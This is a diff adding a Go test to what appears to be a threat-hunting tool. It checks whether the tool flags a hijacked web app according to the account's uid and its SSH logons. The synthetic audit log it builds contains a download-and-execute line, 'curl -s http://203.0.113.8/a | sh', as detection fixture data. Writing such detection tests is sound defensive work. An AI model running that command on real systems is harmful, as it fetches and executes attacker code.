@@ -123,3 +123,40 @@ func TestStolenKey(t *testing.T) {
 		assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityLow), 0, f.Summary)
 	}
 }
+
+// TestServiceAccountsAreToldByTheLogs: what an account is follows from its
+// number, its shell and its logons; names are asked last.
+func TestServiceAccountsAreToldByTheLogs(t *testing.T) {
+	ids := func(uid string) string { return strings.ReplaceAll(nobody, "=33", "="+uid) }
+	attack := func(uid string) string {
+		var a auditLog
+		a.exec(700, 1, ids(uid), "/opt/board/bin/board", "/opt/board/bin/board", "serve")
+		a.second = 60
+		a.exec(900, 700, ids(uid), "/usr/bin/dash", "sh", "-c", "id; curl -s http://203.0.113.8/a | sh")
+		a.exec(901, 900, ids(uid), "/usr/bin/id", "id")
+		a.exec(902, 900, ids(uid), "/usr/bin/curl", "curl", "-s", "http://203.0.113.8/a")
+		return a.b.String()
+	}
+	logon := func(uid string) string {
+		return fmt.Sprintf("sshd[5]: pam_unix(sshd:session): session opened for user board(uid=%s) by (uid=0)", uid)
+	}
+	for _, tc := range []struct {
+		name, audit string
+		auth        []string
+		service     bool
+	}{
+		{"a number of the system's range", attack("113"), nil, true},
+		{"a person's number", attack("1013"), nil, false},
+		{"a number of the system's range that people log on as", attack("113"), []string{"sshd[5]: Accepted publickey for board from 192.0.2.4 port 4 ssh2: ED25519 SHA256:x", logon("113")}, false},
+		{"the number of nobody", attack("65534"), nil, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			files := fstest.MapFS{"audit/audit.log": {Data: []byte(tc.audit)}}
+			if tc.auth != nil {
+				files["auth.log"] = &fstest.MapFile{Data: lines(tc.auth...)}
+			}
+			inv := investigate(t, open(t, files), hunt.Options{})
+			assert.Equal(t, tc.service, answers(inv)[hunt.HijackedApp] == hunt.Supported)
+		})
+	}
+}
